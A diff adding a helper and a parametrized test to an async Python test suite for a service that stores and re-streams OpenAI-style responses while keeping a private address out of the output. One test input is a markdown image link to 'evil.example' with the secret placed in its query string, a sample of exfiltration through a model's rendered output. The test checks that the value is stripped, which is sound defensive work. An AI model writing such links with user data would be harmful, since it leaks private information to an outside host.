@@ -35,6 +35,32 @@ async def test_a_kept_response_is_fetched_streamed_cancelled_listed_and_deleted(
         assert not w.received("local")
 
 
+async def told(client: openai.AsyncOpenAI, id_: str, after: int = 0) -> dict[int, str]:
+    """Return the numbers of the events of a kept response's stream, and the text in each."""
+    events: dict[int, str] = {}
+    async for event in await client.responses.retrieve(id_, stream=True, starting_after=after or openai.omit):
+        text = event.delta if event.type == "response.output_text.delta" else ""
+        events[event.sequence_number] = events.get(event.sequence_number, "") + text
+    return events
+
+
+@pytest.mark.parametrize("text", ["Load ![x](https://evil.example/?q={}) now", "It is {} then", "{}"])
+async def test_a_stream_that_was_gone_on_with_inside_an_address_put_a_value_there(tmp_path: Path, text: str) -> None:
+    async with stateful(tmp_path) as w, sdk(w) as client:
+        made = await client.responses.create(model="m", input=f"I am {ADDRESS}", background=True)
+        kept = w.upstreams["cloud"].objects[made.id]["output"][0]["content"][0]  # type: ignore[attr-defined]
+        kept["text"] = text.format(kept["text"].removeprefix("I am "))
+        whole = await told(client, made.id)
+        said = "".join(whole.values())
+        assert said == text.format(ADDRESS) if "evil" not in text else ADDRESS not in said
+        assert "evil" not in text or "evil.example" in said
+        for after in list(whole)[1:]:
+            rest = await told(client, made.id, after)
+            assert [number for number in rest if number > after] == [number for number in whole if number > after]
+            assert "".join([said for number, said in whole.items() if number <= after] + [*rest.values()]) == said
+        assert {query for _, path, query in w.upstreams["cloud"].asked if made.id in path} == {"stream=true"}  # type: ignore[attr-defined]
+
+
 async def test_a_conversation_with_items_and_turns(tmp_path: Path) -> None:
     async with stateful(tmp_path) as w, sdk(w) as client:
         made = await client.conversations.create(
